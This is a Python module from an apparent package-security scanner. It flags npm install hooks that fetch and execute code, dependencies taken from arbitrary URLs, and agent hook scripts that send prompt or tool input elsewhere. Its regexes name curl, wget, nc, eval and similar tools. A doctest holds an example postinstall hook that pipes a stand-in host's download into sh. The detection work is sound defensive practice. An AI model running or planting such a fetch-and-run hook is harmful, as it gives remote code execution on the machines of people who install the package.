"""What does a package manager run or take by itself when this package is installed?

A hook that builds is honest. One that fetches and runs, itself or by a file of the package, is not; nor is a dependency that
comes straight from a machine nobody knows.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from metier.govern.scan.flow import Step
from metier.govern.scan.hosts import Place, host_of, is_registry, place_of
from metier.govern.scan.parts import Part
from metier.govern.scan.purpose import Purpose
from metier.govern.scan.seen import place_of_step
from metier.verdict import Severity

_HOOK = re.compile(
    r"\"((?:pre|post)?install|(?:pre|post)?prepare|prepublish|dependencies)\"\s*:\s*\"((?:[^\"\\]|\\.)*)\""
)
_ACTS = re.compile(
    r"\bnode\s+-e|\bcurl\b|\bwget\b|https?:|python3?\s+-c|\beval\b|\bbash\s+-c|\bnc\b|base64|powershell", re.I
)
_INLINE = re.compile(r"\b(?:node|bun|deno|python3?|ruby|perl|php)\b[^;&|]{0,80}?\s(?:-[ecpr]|--eval|--print|eval)\s")
_ASKS = re.compile(r"\b(?:fetch|get|request|urlopen|open)\(|\b(?:curl|wget)\b")
_RUNS_ANSWER = re.compile(
    r"\bFunction\(|(?<![\w-])eval\b|\bexec\w*\(|\bspawn\w*\(|\bfork\(|runIn\w*Context|\b_compile\(|compileFunction\(|data:text/javascript|(?:require|import)\(\s*[\\\"'`]{0,3}(?:\.|/|process\.cwd|os\.tmpdir)|instance_eval|\bsystem\("
)
"""A program that stands in the command itself asks somebody and runs code."""
_ADDRESS = re.compile(
    r"https?://[^\s\"'`\\)>]{3,200}|\bhost(?:name)?\\?[\"']?\s*:\s*\\?[\"'`](?P<host>[\w-]+(?:\.[\w-]+)+)"
)
_RUNS = re.compile(
    r"(?:^|[\s;&|])(?:node|python3?|bash|sh|tsx|ts-node|bun|deno\s+run(?:\s+-\S+)*)\s+(?:\./)?([\w./-]+)|(?:^|[\s;&|])\./([\w./-]+)"
)
_TAKEN = re.compile(r"\"[@\w./-]+\"\s*:\s*\"((?:git\+)?(?:https?|ssh|git)://[^\"]+)\"")
"""A dependency that is taken straight from an address."""
_TAKES = re.compile(r"\"(?:dev|peer|optional)?[dD]ependencies\"\s*:\s*\{([^{}]*)\}")

_EVENTS = re.compile(
    r"UserPromptSubmit|P(?:re|ost)ToolUse|beforeSubmitPrompt|after(?:File|Agent)\w+|message:received|SessionEnd"
)
"""What an agent tells a hook of on its input: what it was asked, and what its tools gave back."""
_EVENT_WORDS = (
    "UserPromptSubmit",
    "ToolUse",
    "beforeSubmitPrompt",
    "afterFile",
    "afterAgent",
    "message:received",
    "SessionEnd",
)
_STARTED = re.compile(r"(?<![\w-])([\w-]{1,80}\.(?:py|js|mjs|cjs|ts|sh|bash|rb|pl))\b")
_INPUT = re.compile(
    r"\bstdin\b|/dev/stdin|/dev/fd/0|readFileSync\(\s*0\b|(?:^|[\s(=])cat(?:\s*$|\s*[|)])|@-|\bSTDIN\b|\binput\("
)

Found = tuple[str, Severity, str, int, str]
"""Rule, weight, path, line and evidence."""


def hook_findings(parts: Sequence[Part], steps: Sequence[Step], purpose: Purpose) -> Iterator[Found]:
    """Hooks that do more than build, and dependencies from strangers.

    >>> from metier.govern.scan.parts import read_text
    >>> part = read_text('{"scripts": {"postinstall": "curl -s http://x.invalid | sh"}}', "package.json").parts[0]
    >>> [(rule, weight.value) for rule, weight, *_ in hook_findings([part], [], Purpose())]
    [('install-hook', 'review')]
    """
    yield from _listening(parts, steps, purpose)
    for part in parts:
        if part.path.rsplit("/", 1)[-1] != "package.json":
            continue
        for found in _HOOK.finditer(part.text):
            weight = Severity.REVIEW if _ACTS.search(found[2]) else None
            if weight and _runs_answer(found[2], purpose):
                weight = Severity.BLOCK
            for run in _RUNS.finditer(found[2]):
                weight = _weight_of_file(_beside(part.path, run[1] or run[2]), steps, purpose) or weight
            if weight:
                yield "install-hook", weight, part.path, _line(part, found.start()), found[0]
        for block in _TAKES.finditer(part.text) if "://" in part.text else ():
            for taken in _TAKEN.finditer(block[1]):
                url = taken[1].removeprefix("git+")
                place = place_of(url, own_words=purpose.words)
                if not is_registry(host_of(url)) and (place.is_shady or place in (Place.UNKNOWN, Place.OWN)):
                    weight = Severity.BLOCK if place.is_shady else Severity.REVIEW
                    if place != Place.OWN or not purpose.names(host_of(url)):
                        yield (
                            "foreign-registry",
                            weight,
                            part.path,
                            _line(part, block.start(1) + taken.start()),
                            taken[0],
                        )


def _runs_answer(command: str, purpose: Purpose) -> bool:
    """Whether a program that stands in a command runs what a stranger answers."""
    inline = _INLINE.search(command)
    if inline is None or not _ASKS.search(command) or not _RUNS_ANSWER.search(command, inline.end()):
        return False
    places = [place_of(one["host"] or one[0], own_words=purpose.words) for one in _ADDRESS.finditer(command)]
    worst = max(places, default=Place.UNKNOWN)
    return worst == Place.OWN or worst > Place.PLATFORM


def _listening(parts: Sequence[Part], steps: Sequence[Step], purpose: Purpose) -> Iterator[Found]:
    """Programs that an agent tells what it is asked, and that send what they are told to somebody else."""
    sending = [step for step in steps if "send" in step.labels]
    if not sending:
        return
    telling = [
        part for part in parts if any(word in part.plain for word in _EVENT_WORDS) and _EVENTS.search(part.plain)
    ]
    names = {found[1] for part in telling for found in _STARTED.finditer(part.plain)}
    told: dict[str, set[str]] = {part.path: set() for part in telling}
    for step in steps if names else ():
        if step.statement.path.rsplit("/", 1)[-1] in names and _INPUT.search(step.text):
            told.setdefault(step.statement.path, set()).update(step.statement.assigns)
    for step in sending:
        path = step.statement.path
        if path in told:
            place = place_of_step(step, purpose)
            if place >= Place.OWN:
                passes_on = not told[path].isdisjoint(step.statement.uses) or _INPUT.search(step.text)
                is_unnamed = not any(purpose.names(host_of(url)) for url in step.urls)
                grave = place >= Place.UNKNOWN and passes_on and is_unnamed
                weight = Severity.BLOCK if grave else Severity.REVIEW if passes_on else Severity.NOTE
                yield "send-private", weight, path, step.statement.line, step.text


def _line(part: Part, place: int) -> int:
    return part.text.count("\n", 0, place) + 1


def _beside(path: str, name: str) -> str:
    """The path of a file that a hook names, seen from the folder of its package."""
    folder = path.rsplit("/", 1)[0] + "/" if "/" in path else ""
    return folder + name.removeprefix("./")


def _weight_of_file(path: str, steps: Sequence[Step], purpose: Purpose) -> Severity | None:
    """What a file weighs that is run when the package is installed."""
    inside = [step for step in steps if step.statement.path in (path, f"{path}.js", f"{path}/index.js")]
    away = [
        step for step in inside if step.labels & {"fetch", "send"} and place_of_step(step, purpose) >= Place.UNKNOWN
    ]
    if not away:
        return None
    runs = any(step.labels & {"execute", "evaluate", "load-code", "permissions"} for step in inside)
    return Severity.BLOCK if runs else Severity.REVIEW
